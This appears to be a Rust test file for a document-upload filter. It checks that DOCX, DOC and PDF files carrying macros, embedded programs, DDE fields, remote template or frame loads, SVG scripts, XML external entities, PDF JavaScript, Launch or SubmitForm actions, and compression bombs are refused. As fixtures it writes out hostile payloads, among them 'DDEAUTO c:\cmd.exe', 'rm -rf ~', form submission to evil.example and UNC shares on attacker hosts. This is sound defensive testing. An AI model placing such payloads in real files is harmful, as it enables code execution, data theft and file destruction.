//! Documents that mean no good: what runs, loads or holds something else is refused.

use super::hostile::{refused, taken, too_large};
use super::samples::*;

#[test]
fn documents_hold_no_other_files_and_run_nothing() {
    let program: &[u8] = b"MZ\x90\0";
    let inner = archive(&[("a.txt", b"a")]);
    for (what, bytes) in [
        ("a DOCX with an archive", docx(&[("word/media/a.png", &inner)])),
        ("a DOCX with a program", docx(&[("word/media/a.exe", program)])),
        ("a DOCX with an object", docx(&[("word/embeddings/oleObject1.bin", b"x")])),
        ("a DOCX with macros", docx(&[("word/vbaProject.bin", b"x")])),
        ("a DOCM", docm()),
        ("a DOCX with a text among its objects", docx(&[("word/embeddings/a.xml", b"<x/>")])),
        ("a DOCX that leads out", docx(&[("../../docProps/a.xml", b"<x/>")])),
        ("a DOCX that leads somewhere on Windows", docx(&[("docProps\\a.xml", b"<x/>")])),
        ("a DOCX with a link in it", linked_docx()),
        ("a DOCX with an encrypted part", encrypted_docx()),
        ("a DOCX with two parts of one name", docx_of_two("word/b.xml", "word/b.xml")),
        ("a DOCX with a part of two names", docx_of_two("word/b.xml", "word/c.xml")),
        ("a DOCX without a text", archive(&[("[Content_Types].xml", b"<Types/>")])),
        ("a DOC with macros", doc(&["/Macros/VBA/dir"])),
        ("a DOC with a package", doc(&["/ObjectPool/_1/\u{1}Ole10Native"])),
    ] {
        refused(what, bytes);
    }
}

#[test]
fn no_archive_and_no_program_is_anywhere_in_a_document() {
    for (what, stranger) in strangers() {
        let behind = [png(4, 4), stranger.clone()].concat();
        let odd = [b"x".to_vec(), stranger.clone()].concat();
        for (how, name, content) in [
            ("as a picture", "word/media/i.png", &stranger),
            ("behind a picture", "word/media/i.png", &behind),
            ("behind a byte", "word/media/i.png", &odd),
            ("as a font", "word/fonts/font1.odttf", &stranger),
            ("with an ending of its own", "word/media/i.dat", &stranger),
            ("as a text", "docProps/custom.xml", &stranger),
        ] {
            refused(&format!("{what} {how}"), docx(&[(name, content)]));
        }
        if what != "a compound file" {
            let stream = pdf_with_stream("", &[b"BT ".as_slice(), &stranger].concat());
            refused(&format!("{what} in a PDF"), stream);
        }
    }
    let program = strangers().into_iter().find(|(what, _)| what.contains("Windows")).expect("one").1;
    refused("a DOC with a program", doc_with("/Data", &program));
    for (what, name, content) in [
        ("a script", "word/media/i.png", &b"#!/bin/sh\nrm -rf ~"[..]),
        ("rich text", "word/media/i.png", b"{\\rtf1 }"),
        ("a script as a font", "word/fonts/font1.ttf", b"#!/bin/sh\nrm -rf ~"),
        ("rich text for a printer", "word/printerSettings1.bin", b"{\\rtf1 }"),
        ("a page", "word/afchunk.html", b"<html/>"),
        ("a page behind a picture", "word/media/i.png", &[png(4, 4), b"<script>alert(1)".to_vec()].concat()),
        ("a JPEG that says it is a PNG", "word/media/i.png", &jpeg(4, 4)),
        ("a drawing with a script", "word/media/i.svg", b"<svg><script>alert(1)</script></svg>"),
        ("a drawing with an event", "word/media/i.svg", b"<svg onload='alert(1)'/>"),
        (
            "a drawing with a link that runs",
            "word/media/i.svg",
            b"<svg><a href='JavaScript:alert(1)'/></svg>",
        ),
    ] {
        refused(what, docx(&[(name, content)]));
    }
    taken(docx(&[
        ("word/media/a.png", &png(4, 4)),
        ("word/media/b.jpeg", &jpeg(4, 4)),
        ("word/media/c.gif", &gif(4, 4, 1)),
        ("word/media/d.svg", b"<svg xmlns='http://www.w3.org/2000/svg'><path d='M0 0'/></svg>"),
        ("word/printerSettings1.bin", b"some printer"),
    ]));
}

/// A document of Word whose parts have to do with this.
fn related(kind: &str, target: &str, mode: &str) -> Vec<u8> {
    let relationships = format!(
        "<Relationships><Relationship Id='r1' Type='http://schemas.openxmlformats.org/officeDocument/2006/\
         relationships/{kind}' Target='{target}' TargetMode='{mode}'/></Relationships>"
    );
    docx(&[("word/_rels/document.xml.rels", relationships.as_bytes())])
}

#[test]
fn a_document_loads_nothing_when_it_is_opened() {
    for (kind, target) in [
        ("attachedTemplate", "https://evil.example/macros.dotm"),
        ("image", "file://evil.example/share/a.png"),
        ("oleObject", "mhtml:https://evil.example/x.html"),
        ("frame", "https://evil.example/x.html"),
    ] {
        refused(kind, related(kind, target, "External"));
    }
    refused("a page in it", related("aFChunk", "page.xml", "Internal"));
    refused("macros by another name", related("vbaProject", "a.xml", "Internal"));
    refused("as another spells it", related("&#97;FChunk", "page.xml", "Internal"));
    taken(related("hyperlink", "https://example.com/", "External"));
    taken(related("image", "media/a.png", "Internal"));

    let text = |body: &str| docx(&[("word/header1.xml", format!("<w:hdr>{body}</w:hdr>").as_bytes())]);
    let code = |code: &str| {
        format!(
            "<w:fldChar w:fldCharType='begin'/>{code}<w:fldChar w:fldCharType='separate'/>\
             <w:t>x</w:t><w:fldChar w:fldCharType='end'/>"
        )
    };
    let instruction = |text: &str| format!("<w:instrText>{text}</w:instrText>");
    for (what, body) in [
        ("DDE", code(&instruction(" DDEAUTO c:\\cmd.exe &quot;/k calc&quot;"))),
        ("DDE in pieces", code(&(instruction(" DD") + &instruction("E c:\\cmd.exe")))),
        ("DDE in numbers", code(&instruction("&#68;&#x44;E c:\\cmd.exe"))),
        ("DDE as another field makes it", code(&code(&instruction("QUOTE 68 68 69")))),
        ("DDE as it stands", code(&instruction("<![CDATA[DDE c:\\cmd.exe]]>"))),
        ("DDE that nobody began", instruction("DDE c:\\cmd.exe")),
        ("DDE that nobody ends", "<w:fldChar w:fldCharType='begin'/>".to_owned() + &instruction("DDE x")),
        ("DDE in one", "<w:fldSimple w:instr=' dde c:\\cmd.exe'/>".to_owned()),
        ("a text of another file", code(&instruction("INCLUDETEXT \\\\evil\\a.docx"))),
        ("a page in it", "<w:altChunk r:id='r1'/>".to_owned()),
    ] {
        refused(what, text(&body));
    }
    taken(text(&code(&instruction(" HYPERLINK &quot;https://example.com/dde &quot;"))));
    taken(text("<w:t>DDE is a word</w:t>"));
    for body in [
        "<!DOCTYPE x [<!ENTITY a 'b'>]><x>&a;</x>",
        "<!DOCTYPE x SYSTEM 'https://evil.example/x.dtd'><x/>",
        "<?xml version='1.0' encoding='utf-7'?><x/>",
        "no XML",
    ] {
        refused(body, docx(&[("docProps/custom.xml", body.as_bytes())]));
    }
    let wide: Vec<u8> = "<!DOCTYPE x><x/>".encode_utf16().flat_map(u16::to_le_bytes).collect();
    refused("a DTD in UTF-16", docx(&[("docProps/custom.xml", &[b"\xff\xfe", &wide[..]].concat())]));
    for code in [&b"\x13 DDEAUTO c:\\cmd.exe"[..], b"\x13\0 \0d\0d\0e\0 \0"] {
        refused("a DOC with DDE", doc_with("/WordDocument", &[b"\xec\xa5".as_slice(), code].concat()));
    }
}

#[test]
fn a_pdf_runs_nothing_sends_nothing_and_leads_to_no_other_machine() {
    let bad = [
        ("a script", "/OpenAction<</S/JavaScript/JS(app.alert(1))>>"),
        ("a script by a name in another spelling", "/OpenAction<</S/J#61vaScript/J#53(app.alert(1))>>"),
        ("a program that is started", "/OpenAction<</S/Launch/F(cmd.exe)>>"),
        ("a file inside", "/Names<</EmbeddedFiles 9 0 R>>"),
        ("what is filled in is sent", "/A<</S/SubmitForm/F(https://evil.example)>>"),
        ("what is filled in is loaded", "/A<</S/ImportData/F(a.fdf)>>"),
        ("a file inside is opened", "/A<</S/GoToE>>"),
        ("a film", "/Subtype/RichMedia"),
        ("a form of another kind", "/AcroForm<</XFA 9 0 R>>"),
        ("a document on another machine", "/A<</S/GoToR/F(\\\\\\\\evil\\\\share)>>"),
        ("the same by its path", "/A<</S/GoToR/F<</F(//evil/share)>>>>"),
        ("the same in digits", "/A<</S/GoToR/F<FEFF005C005C0065>>>"),
    ];
    for (what, object) in bad {
        refused(what, pdf(object));
        refused(&format!("{what}, packed"), packed_pdf(&format!("<<{object}>>")));
    }
    for fine in ["/JSonic true", "/A<</S/GoToR/F(other.pdf)>>", "/A<</S/URI/URI(https://example.com)>>"] {
        taken(pdf(fine));
        taken(packed_pdf(&format!("<<{fine}>>")));
    }
    let about = "/Type/ObjStm/N 1/First 4";
    let script = b"5 0 <</XFA 1>>";
    let data = zlib(b"5 0 <</Type/X>>");
    for (what, bytes) in [
        ("packed, and not by zlib", pdf_with_stream(&format!("{about}/Filter/LZWDecode"), &data)),
        ("packed twice", pdf_with_stream(&format!("{about}/Filter[/ASCIIHexDecode/FlateDecode]"), &data)),
        (
            "packed as differences",
            pdf_with_stream(&format!("{about}/Filter/FlateDecode/DecodeParms<</Predictor 12>>"), &data),
        ),
        ("packed and damaged", pdf_with_stream(&format!("{about}/Filter/FlateDecode"), &data[..9])),
        ("not packed", pdf_with_stream(about, script)),
        ("in the name's other spelling", pdf_with_stream("/Type/Obj#53tm/Filter/FlateDecode", &zlib(script))),
        (
            "in an object without an end",
            pdf_with_stream(&format!("{about}/F(endstream)/Filter/FlateDecode"), &data),
        ),
        ("said to be packed, and nothing there", pdf(about)),
        ("an object within a stream", pdf_with_stream("", b"7 0 obj<</XFA 1>>")),
        ("a script within a stream", pdf_with_stream("", b"0 g /JavaScript gs")),
        ("the end of an archive", pdf_with_stream("", b"PK\x05\x06\xff\xff")),
        (
            "encrypted",
            [b"%PDF-1.7\n9 0 obj<</Encrypt 8 0 R>>endobj\n", &packed_pdf("<</Type/X>>")[9..]].concat(),
        ),
    ] {
        refused(what, bytes);
    }
    let bomb = packed_pdf(&" ".repeat(2_000_000));
    assert!(bomb.len() < 20_000);
    too_large("packed objects of 2 MB", bomb);
    // What is between packed bytes by chance is no name.
    taken(pdf_with_stream("", b"\x01/JS \x03"));
}
